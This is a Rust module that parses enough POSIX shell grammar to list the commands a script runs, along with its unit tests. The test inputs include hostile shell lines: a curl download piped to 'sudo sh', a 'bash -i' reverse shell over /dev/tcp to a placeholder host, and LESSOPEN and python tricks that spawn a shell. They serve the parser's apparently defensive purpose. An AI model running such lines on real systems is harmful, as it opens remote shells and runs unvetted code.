//! Just enough of the POSIX shell grammar to see which programs a script starts: words
//! with their quoting removed, variable assignments, pipelines and lists, redirections
//! (what is written where), here-documents, and command substitutions.

/// One simple command of a script.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct SimpleCommand {
    /// `NAME=value` words before the command name.
    pub assignments: Vec<(String, String)>,
    /// The command name and its arguments, unquoted.
    pub words: Vec<String>,
    /// Files written by `>`/`>>` (not `/dev/*` nor descriptors).
    pub writes: Vec<String>,
    /// The text fed on standard input by a here-document or here-string.
    pub stdin_text: Option<String>,
    /// Scripts run in command substitutions (`$(...)`, backquotes).
    pub substitutions: Vec<String>,
    /// The 0-based line of the script where the command starts.
    pub line: usize,
    /// Its standard input is the output of the command before it (`a | b`).
    pub piped: bool,
}

/// Words that open or close a compound command: not commands themselves.
const KEYWORDS: &[&str] = &[
    "{", "}", "(", ")", "!", "if", "then", "else", "elif", "fi", "while", "until", "do", "done",
    "for", "case", "esac", "in", "time",
];

/// Whether the shell reads `word` as a keyword rather than a command (`time`, `if`).
pub fn is_keyword(word: &str) -> bool {
    KEYWORDS.contains(&word)
}

struct Parser {
    chars: Vec<char>,
    at: usize,
    line: usize,
    commands: Vec<SimpleCommand>,
    current: SimpleCommand,
    word: String,
    in_word: bool,
    pending_heredocs: Vec<String>,
}

/// Parses `script` into its simple commands, in order.
pub fn parse(script: &str) -> Vec<SimpleCommand> {
    let mut p = Parser {
        chars: script.chars().collect(),
        at: 0,
        line: 0,
        commands: Vec::new(),
        current: SimpleCommand::default(),
        word: String::new(),
        in_word: false,
        pending_heredocs: Vec::new(),
    };
    p.run();
    p.commands
}

impl Parser {
    fn peek(&self, offset: usize) -> Option<char> {
        self.chars.get(self.at + offset).copied()
    }

    fn run(&mut self) {
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' | '\r' => {
                    self.end_word();
                    self.at += 1;
                }
                '\n' => {
                    self.end_command();
                    self.at += 1;
                    self.line += 1;
                    self.read_heredoc_bodies();
                    self.current.line = self.line;
                }
                '\\' => {
                    if self.peek(1) == Some('\n') {
                        self.line += 1;
                    } else if let Some(next) = self.peek(1) {
                        self.push(next);
                    }
                    self.at += 2;
                }
                '\'' => {
                    self.at += 1;
                    self.in_word = true;
                    while let Some(c) = self.peek(0) {
                        self.at += 1;
                        if c == '\'' {
                            break;
                        }
                        if c == '\n' {
                            self.line += 1;
                        }
                        self.word.push(c);
                    }
                }
                '"' => {
                    self.at += 1;
                    self.in_word = true;
                    self.double_quoted();
                }
                '$' if self.peek(1) == Some('\'') => {
                    self.at += 2;
                    self.in_word = true;
                    self.ansi_c_quoted();
                }
                '$' if self.peek(1) == Some('(') => self.substitution(),
                '`' => self.backquoted(),
                '#' if !self.in_word => {
                    while self.peek(0).is_some_and(|c| c != '\n') {
                        self.at += 1;
                    }
                }
                '|' | ';' | '(' | ')' => {
                    self.end_command();
                    let pipe = c == '|' && self.peek(1) != Some('|');
                    self.at += 1;
                    self.current.piped = pipe;
                    while matches!(self.peek(0), Some('|' | '&' | ';')) {
                        self.at += 1;
                    }
                }
                '&' if self.peek(1) == Some('>') => {
                    self.word.clear();
                    self.in_word = false;
                    self.at += 1;
                    self.redirection();
                }
                '&' => {
                    self.end_command();
                    self.at += 1;
                    if self.peek(0) == Some('&') {
                        self.at += 1;
                    }
                }
                '<' | '>' => {
                    // A word of digits just before is the descriptor, not an argument.
                    if self.in_word && self.word.chars().all(|c| c.is_ascii_digit()) {
                        self.word.clear();
                        self.in_word = false;
                    } else {
                        self.end_word();
                    }
                    self.redirection();
                }
                _ => {
                    self.push(c);
                    self.at += 1;
                }
            }
        }
        self.end_command();
    }

    fn push(&mut self, c: char) {
        self.word.push(c);
        self.in_word = true;
    }

    fn double_quoted(&mut self) {
        while let Some(c) = self.peek(0) {
            match c {
                '"' => {
                    self.at += 1;
                    return;
                }
                '\\' if matches!(self.peek(1), Some('"' | '\\' | '$' | '`')) => {
                    self.word.push(self.chars[self.at + 1]);
                    self.at += 2;
                }
                '$' if self.peek(1) == Some('(') => self.substitution(),
                '`' => self.backquoted(),
                _ => {
                    if c == '\n' {
                        self.line += 1;
                    }
                    self.word.push(c);
                    self.at += 1;
                }
            }
        }
    }

    fn ansi_c_quoted(&mut self) {
        while let Some(c) = self.peek(0) {
            self.at += 1;
            match c {
                '\'' => return,
                '\\' => {
                    let escaped = self.peek(0).unwrap_or('\\');
                    self.at += 1;
                    self.word.push(match escaped {
                        'n' => '\n',
                        't' => '\t',
                        'r' => '\r',
                        'e' | 'E' => '\u{1b}',
                        other => other,
                    });
                }
                _ => self.word.push(c),
            }
        }
    }

    /// `$( ... )`: kept in the word as written, and its script recorded.
    fn substitution(&mut self) {
        let start = self.at;
        self.at += 2;
        let mut depth = 1;
        let mut quote: Option<char> = None;
        while let Some(c) = self.peek(0) {
            self.at += 1;
            match (quote, c) {
                (Some(q), c) if c == q => quote = None,
                (Some(_), _) => {}
                (None, '\'' | '"') => quote = Some(c),
                (None, '(') => depth += 1,
                (None, ')') => {
                    depth -= 1;
                    if depth == 0 {
                        break;
                    }
                }
                _ => {}
            }
        }
        let text: String = self.chars[start..self.at].iter().collect();
        let inner = text
            .strip_prefix("$(")
            .map(|t| t.strip_suffix(')').unwrap_or(t))
            .unwrap_or(&text);
        // `$(<file)` reads a file: no command runs.
        if !inner.trim_start().starts_with('<') {
            self.current.substitutions.push(inner.to_string());
        }
        self.word.push_str(&text);
        self.in_word = true;
    }

    fn backquoted(&mut self) {
        let start = self.at + 1;
        self.at += 1;
        while self.peek(0).is_some_and(|c| c != '`') {
            self.at += 1;
        }
        let inner: String = self.chars[start..self.at.min(self.chars.len())]
            .iter()
            .collect();
        self.at += 1;
        self.current.substitutions.push(inner.clone());
        self.word.push_str(&format!("`{inner}`"));
        self.in_word = true;
    }

    /// A redirection operator at `self.at` and its target.
    fn redirection(&mut self) {
        let mut op = String::new();
        while let Some(c @ ('<' | '>' | '&' | '|' | '-')) = self.peek(0) {
            // `-` only belongs to `<<-`.
            if c == '-' && op != "<<" {
                break;
            }
            op.push(c);
            self.at += 1;
        }
        while matches!(self.peek(0), Some(' ' | '\t')) {
            self.at += 1;
        }
        // Read the target as one word, quotes removed.
        let saved_word = std::mem::take(&mut self.word);
        let saved_in_word = self.in_word;
        self.in_word = false;
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' | '\n' | ';' | '|' | '&' | '<' | '>' | '(' | ')' => break,
                '\'' | '"' => {
                    self.at += 1;
                    while let Some(q) = self.peek(0) {
                        self.at += 1;
                        if q == c {
                            break;
                        }
                        self.word.push(q);
                    }
                }
                '$' if self.peek(1) == Some('(') => self.substitution(),
                _ => {
                    self.word.push(c);
                    self.at += 1;
                }
            }
        }
        let target = std::mem::replace(&mut self.word, saved_word);
        self.in_word = saved_in_word;
        match op.as_str() {
            "<<" | "<<-" => self.pending_heredocs.push(target),
            "<<<" => self.current.stdin_text = Some(target),
            ">" | ">>" | ">|" | "&>" | "&>>" | "<>"
                if !target.starts_with("/dev/") && !target.is_empty() =>
            {
                self.current.writes.push(target)
            }
            _ => {}
        }
    }

    fn read_heredoc_bodies(&mut self) {
        for delimiter in std::mem::take(&mut self.pending_heredocs) {
            let mut body = String::new();
            loop {
                let start = self.at;
                while self.peek(0).is_some_and(|c| c != '\n') {
                    self.at += 1;
                }
                let line: String = self.chars[start..self.at].iter().collect();
                let at_end = self.peek(0).is_none();
                self.at += 1;
                self.line += 1;
                if line.trim() == delimiter || at_end {
                    if line.trim() != delimiter {
                        body.push_str(&line);
                    }
                    break;
                }
                body.push_str(&line);
                body.push('\n');
            }
            if let Some(last) = self.commands.last_mut() {
                last.stdin_text = Some(body);
            }
        }
    }

    fn end_word(&mut self) {
        if !self.in_word {
            return;
        }
        let word = std::mem::take(&mut self.word);
        self.in_word = false;
        let command = &mut self.current;
        if command.words.is_empty() {
            if KEYWORDS.contains(&word.as_str()) {
                return;
            }
            if let Some((name, value)) = word.split_once('=')
                && !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit())
            {
                command
                    .assignments
                    .push((name.to_string(), value.to_string()));
                return;
            }
        }
        command.words.push(word);
    }

    fn end_command(&mut self) {
        self.end_word();
        let line = self.line;
        let command = std::mem::take(&mut self.current);
        self.current.line = line;
        if !command.words.is_empty()
            || !command.assignments.is_empty()
            || !command.substitutions.is_empty()
        {
            self.commands.push(command);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(script: &str) -> Vec<Vec<String>> {
        parse(script).into_iter().map(|c| c.words).collect()
    }

    #[test]
    fn pipelines_lists_and_quotes() {
        assert_eq!(
            words("curl -s 'http://x/a b' | sudo sh; echo \"done $HOME\" && ls"),
            [
                vec!["curl", "-s", "http://x/a b"],
                vec!["sudo", "sh"],
                vec!["echo", "done $HOME"],
                vec!["ls"]
            ]
        );
        assert_eq!(words("echo $'a\\nb'"), [vec!["echo", "a\nb"]]);
    }

    #[test]
    fn redirections_are_not_arguments() {
        let commands = parse("bash -i >& /dev/tcp/h/1 0>&1\necho hi >/tmp/f 2>&1");
        assert_eq!(commands[0].words, ["bash", "-i"]);
        assert_eq!(commands[1].words, ["echo", "hi"]);
        assert_eq!(commands[1].writes, ["/tmp/f"]);
        assert_eq!(commands[1].line, 1);
    }

    #[test]
    fn assignments_heredocs_and_substitutions() {
        let commands = parse(
            "LESSOPEN='/bin/sh -s # %s' less /etc/hosts\ncat >/tmp/c <<EOF\nuser root;\nEOF\nTF=$(mktemp)\nexec `which sh`",
        );
        assert_eq!(
            commands[0].assignments,
            [("LESSOPEN".into(), "/bin/sh -s # %s".into())]
        );
        assert_eq!(commands[0].words, ["less", "/etc/hosts"]);
        assert_eq!(commands[1].writes, ["/tmp/c"]);
        assert_eq!(commands[1].stdin_text.as_deref(), Some("user root;\n"));
        assert_eq!(commands[2].substitutions, ["mktemp"]);
        assert_eq!(commands[3].substitutions, ["which sh"]);
    }

    #[test]
    fn continuations_and_multi_line_quotes() {
        let commands = parse("python -c 'import os\nos.system(\"sh\")' \\\n  -u\nid");
        assert_eq!(commands[0].words.len(), 4);
        assert_eq!(commands[1].words, ["id"]);
        assert_eq!(commands[1].line, 3);
    }

    #[test]
    fn compound_commands_show_their_simple_ones() {
        assert_eq!(
            words("{ echo a 1>&3; cat 0<&3; } 3<>/dev/tcp/h/1 | { while read -r; do cat; done; }"),
            [
                vec!["echo", "a"],
                vec!["cat"],
                vec!["read", "-r"],
                vec!["cat"]
            ]
        );
    }
}
